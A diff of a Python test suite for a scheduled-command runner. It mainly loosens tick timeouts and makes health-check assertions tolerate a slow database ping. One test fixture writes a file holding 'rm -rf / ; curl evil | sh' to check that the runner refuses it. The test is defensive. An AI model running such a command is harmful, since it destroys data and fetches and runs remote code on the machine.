@@ -182,12 +182,14 @@ def test_run_once_files_allowed_refused_garbage_and_young(runtime, registry, set
     write_cmd(inbox, "b-evil.cmd", b"rm -rf / ; curl evil | sh\n")
     write_cmd(inbox, "c-garbage.cmd", b"\xff\xfe\x00binary")
     write_cmd(inbox, "d-quote.cmd", b"queue retry 'unterminated\n")
-    write_cmd(inbox, "e-young.cmd", b"queue status\n", age=1)
+    # Written "now" as far as the tick can tell, however long a loaded machine takes to get there
+    # (younger than FILE_MIN_AGE, 10 s, when the tick looks): its time stamp is ahead of the clock.
+    write_cmd(inbox, "e-young.cmd", b"queue status\n", age=-600)
     seen = []
     consumer("t", name="t", registry=registry)(lambda event, ctx: seen.append(event.id))
     with runtime.sessions.begin() as session:
         outbox.record(session, "t", {})
-    report = run_tick(runtime, run_command=main, max_time=10, linger=False, memory_mb=4096)
+    report = run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
     assert report.exit_code == 0 and seen  # the tick went on with its other work
     rows = requests(runtime)
     by_source = {r.source: r for r in rows}
@@ -201,7 +203,7 @@ def test_run_once_files_allowed_refused_garbage_and_young(runtime, registry, set
     for original in ("a-migrate.cmd", "b-evil.cmd", "c-garbage.cmd", "d-quote.cmd"):
         assert sum(name.endswith(f"-{original}") for name in archived) == 1
     assert len(archived) == 4
-    run_tick(runtime, run_command=main, max_time=10, linger=False, memory_mb=4096)
+    run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
     assert len(requests(runtime)) == 4  # nothing runs twice
 
 
@@ -250,7 +252,7 @@ def statuses(report) -> dict[str, str]:
 def test_health_checks_ok_warn_fail(runtime, registry, settings, monkeypatch):
     with clock.frozen(T0):
         assert statuses(health.run_checks(runtime))["tick"] == "fail"  # no tick yet
-        run_tick(runtime, run_command=main, max_time=5, linger=False, memory_mb=4096)
+        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
         report = health.run_checks(runtime)
         assert statuses(report)["tick"] == "ok" and statuses(report)["database"] == "ok"
         clock.advance(200)
@@ -292,7 +294,7 @@ def test_health_thresholds_follow_the_cron_interval(env, runtime):
     coarse = Runtime(load_settings(environ={**env, "CRONBOX_CRON_INTERVAL": "15"}), registry=runtime.registry)
     try:
         with clock.frozen(T0):
-            run_tick(coarse, run_command=main, max_time=5, linger=False, memory_mb=4096)
+            run_tick(coarse, run_command=main, max_time=30, linger=False, memory_mb=4096)
             clock.advance(14 * 60)
             assert statuses(health.run_checks(coarse))["tick"] == "ok"
             clock.advance(20 * 60)
@@ -301,14 +303,33 @@ def test_health_thresholds_follow_the_cron_interval(env, runtime):
         coarse.dispose()
 
 
+def graded_as_its_ping(check: dict) -> bool:
+    """Whether the database check's grade is the one its ping's time (rounded to 0.1 ms) earns: ok up
+    to 250 ms, warn up to 2,000, fail beyond (health's thresholds)."""
+    low, high = {"ok": (0, 250), "warn": (250, 2000), "fail": (2000, float("inf"))}[check["status"]]
+    return low - 0.05 <= check["value"] <= high + 0.05
+
+
 def test_health_command_json_and_exit_codes(runtime, env):
     result = invoke(env, "health", "--json")
     body = json.loads(result.output)
     assert result.exit_code == 1 and body["status"] == "fail"  # no tick has run
     assert {"name", "status", "detail", "value"} <= set(body["checks"][0])
-    run_tick(runtime, run_command=main, max_time=5, linger=False, memory_mb=4096)
+    run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)  # room on a loaded machine
+    # After a tick every check is ok but the database's ping, which grades this machine's speed: a
+    # command's fresh connection on a loaded machine can take over 250 ms, a true warn (exit 0).
+    result = invoke(env, "health", "--json")
+    body = json.loads(result.output)
+    checks = {c["name"]: c for c in body["checks"]}
+    ping = checks.pop("database")
+    assert graded_as_its_ping(ping) and {c["status"] for c in checks.values()} == {"ok"}
+    assert body["status"] == ping["status"] and result.exit_code == (1 if ping["status"] == "fail" else 0)
     result = invoke(env, "health")
-    assert result.exit_code == 0 and "health: ok" in result.output
+    *rows, summary = result.output.strip().splitlines()
+    graded = {row.split()[0]: row.split()[1] for row in rows[1:]}  # under the header: check, status, detail
+    assert set(graded) == set(checks) | {"database"}
+    assert {status for name, status in graded.items() if name != "database"} == {"ok"}
+    assert summary == f"health: {graded['database']}" and result.exit_code == (1 if graded["database"] == "fail" else 0)
 
 
 def test_alerts_at_most_hourly_and_a_recovery_notice_over_real_smtp(env, runtime):
@@ -406,7 +427,7 @@ def test_anonymous_health_is_cheap_whatever_the_backlog_and_still_fails_at_once(
         return codes, [s for s in statements if "cronbox_jobs" in s or "cronbox_deliveries" in s]
 
     with clock.frozen(T0):
-        run_tick(runtime, run_command=main, max_time=5, linger=False, memory_mb=4096)
+        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
         event.listen(engine, "before_cursor_execute", sent)
         try:
             codes, counting = calls(1)
@@ -448,7 +469,7 @@ def test_anonymous_health_fails_at_once_when_the_database_goes_down(client_for, 
         raise OperationalError(statement, None, Exception("(2003) Can't connect to MySQL server"))
 
     with clock.frozen(T0):
-        run_tick(runtime, run_command=main, max_time=5, linger=False, memory_mb=4096)
+        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
         assert client.get("/health").json == {"status": "ok"}  # and the backlog's grade is kept
         event.listen(engine, "before_cursor_execute", down)
         try:
